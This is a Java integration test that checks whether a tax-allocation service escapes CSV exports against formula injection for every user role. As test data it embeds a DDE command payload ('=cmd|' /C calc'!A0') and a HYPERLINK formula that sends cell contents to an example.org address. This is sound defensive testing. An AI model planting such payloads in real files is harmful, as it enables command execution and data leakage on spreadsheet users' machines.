package org.confederatio.it;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.List;
import java.util.UUID;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * Issue 13, item 4: every CSV export is RFC 4180, and a cell a spreadsheet would run as a formula
 * comes out as text, to every role; the contract files keep English headers and plain numbers in
 * every language. The class reads a canton of its own, with people, forms and a finding it made.
 */
class CsvExportsIT {

  private static final int LAST_YEAR = ServerClock.YEAR - 1;

  private static TestCanton canton;

  @BeforeAll
  static void aCantonWithTaxpayersAndForms() {
    canton = Fixture.canton();
    String organization = FiscalWorld.phyle("Exported Phyle", canton);
    String chooser = FiscalWorld.taxpayer(canton, LAST_YEAR, "1234.50");
    FiscalWorld.designate(canton, chooser, LAST_YEAR, LocalDate.of(LAST_YEAR, 3, 1), organization);
    String other = FiscalWorld.taxpayer(canton, LAST_YEAR, "0");
    FiscalWorld.designate(canton, other, LAST_YEAR, LocalDate.of(LAST_YEAR, 5, 6), "canton");
  }

  private static List<CSVRecord> records(String csv) throws IOException {
    try (CSVParser parser =
        CSVParser.parse(
            new StringReader(csv), CSVFormat.RFC4180.builder().setCommentMarker('#').get())) {
      return parser.getRecords();
    }
  }

  private static String get(Api user, String path, String accept) throws Exception {
    var response = user.download(path, accept);
    assertEquals(200, response.statusCode(), path);
    return new String(response.body(), StandardCharsets.UTF_8);
  }

  /** A finding of the canton's: a confederal function of local scope (S2). */
  private static String finding() {
    String function = "f-" + UUID.randomUUID().toString().substring(0, 8);
    var created =
        Fixture.ADMIN.postJson(
            canton.path("/functions"),
            """
                {"id":"%s","name":"=cmd|' /C calc'!A0","level":"CONFEDERAL","scope":"LOCAL",
                 "coercive":false,"delegatedBy":["%s"]}"""
                .formatted(function, canton.code));
    assertEquals(201, created.statusCode(), created.body());
    return canton.code + ":" + function + ":SHOULD_BE_CANTONAL";
  }

  @Test
  void aJustificationWrittenAsAFormulaComesOutAsTextToEveryRole() throws Exception {
    String finding = finding();
    String formula = "=HYPERLINK(\"https://example.org/?q=\"&A1, \"Click\")";
    var justified =
        canton.policy.postJson(
            "/api/findings/" + finding + "/justification",
            "{\"reason\":\""
                + formula.replace("\"", "\\\"")
                + "\",\"until\":\""
                + ServerClock.TODAY.plusYears(1)
                + "\"}");
    assertEquals(200, justified.statusCode(), justified.body());

    Api citizen = canton.citizen("Reading Citizen").api();
    Api foundation =
        Fixture.foundation(Fixture.organization("COMMONS_FOUNDATION", "Reading Commons"));
    for (Api user : List.of(citizen, foundation, canton.policy, Fixture.ADMIN)) {
      for (String csv :
          List.of(
              get(user, canton.path("/subsidiarity-review"), "text/csv"),
              get(user, canton.path("/subsidiarity-files/review.csv"), "text/csv"))) {
        CSVRecord row =
            records(csv).stream()
                .filter(r -> r.get(0).equals(finding))
                .findFirst()
                .orElseThrow(() -> new AssertionError(finding + " in " + csv));
        assertEquals("'" + formula, row.get(6), user.username()); // the justification column
        for (CSVRecord r : records(csv)) {
          for (String cell : r) {
            assertFalse(
                !cell.isEmpty() && "=+@\t\r".indexOf(cell.charAt(0)) >= 0,
                "a live formula for " + user + ": " + cell);
          }
        }
      }
    }
  }

  @Test
  void theContractFilesKeepEnglishHeadersAndPlainNumbersInEveryLanguage() throws Exception {
    for (String language : List.of("en", "es", "eo")) {
      String inputs = canton.path("/allocation-inputs/" + LAST_YEAR + "/");
      var a = canton.clerk.getWithLanguage(inputs + "A.csv", language);
      var d = canton.clerk.getWithLanguage(inputs + "D.csv", language);
      assertEquals(200, a.statusCode(), a.body());
      assertTrue(a.body().startsWith("taxpayer,tax\r\n"), a.body().substring(0, 40));
      assertTrue(d.body().startsWith("taxpayer,recipient,share_bp,made_on\r\n"));
      List<CSVRecord> taxes = records(a.body());
      assertEquals(3, taxes.size(), "the header and the two assessments: " + taxes);
      for (CSVRecord row : taxes.subList(1, taxes.size())) {
        assertTrue(row.get(1).matches("[0-9]+\\.[0-9]{2}"), row.toString());
      }
      List<CSVRecord> shares = records(d.body());
      assertEquals(3, shares.size(), "the header and the two forms: " + shares);
      for (CSVRecord row : shares.subList(1, shares.size())) {
        assertTrue(row.get(2).matches("[0-9]+"), row.toString());
        assertTrue(row.get(3).matches("[0-9]{4}-[0-9]{2}-[0-9]{2}"), row.toString());
      }
    }
  }

  @Test
  void aRollDownloadsAsRfc4180() throws Exception {
    canton.citizen("Voting Citizen");
    var frozen =
        canton.clerk.postJson(
            canton.path("/elections"),
            "{\"name\":\"Csv, \\\"quoted\\\" "
                + UUID.randomUUID()
                + "\",\"referenceDate\":\""
                + ServerClock.TODAY
                + "\"}");
    assertEquals(201, frozen.statusCode(), frozen.body());
    long id = Api.json(frozen).getJsonNumber("id").longValue();

    String csv = canton.clerk.get("/api/elections/" + id + "/roll.csv").body();

    assertTrue(csv.startsWith("person_id,reason,date\r\n"), csv.substring(0, 30));
    List<CSVRecord> rows = records(csv);
    assertTrue(rows.size() > 1);
    rows.forEach(r -> assertEquals(3, r.size(), r.toString()));
  }
}
